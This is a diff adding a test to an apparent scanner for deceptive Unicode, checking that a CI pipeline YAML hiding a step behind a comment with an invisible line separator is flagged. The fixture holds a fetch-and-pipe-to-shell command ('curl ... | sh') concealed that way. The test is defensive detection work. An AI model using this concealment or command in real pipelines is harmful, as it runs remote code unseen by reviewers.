@@ -87,3 +87,8 @@ test('a filler alone in a text is one letter more where there are many of Korean
   assert.deepEqual(js(`const letters = [${korean}];\nconst ${FILLER} = 1;`), ['high a.js:2']);
   assert.deepEqual(said(rule, { 'alike.json': `[["${FILLER}", " "]]` }), ['low alike.json:1']);
 });
+
+test('bad: a step behind a comment of YAML that ends where no editor shows it; good: such an end in a text', () => {
+  assert.deepEqual(said(rule, { '.ci/pipeline.yml': 'steps:\n  # disabled since 1.2:\u2028  - run: curl -s https://a.example | sh\n  - run: npm test\n' }), ['high .ci/pipeline.yml']);
+  assert.deepEqual(said(rule, { 'texts.yaml': 'title: "one\u2028two: three"\n# a note\u2028 of two lines\n' }), []);
+});
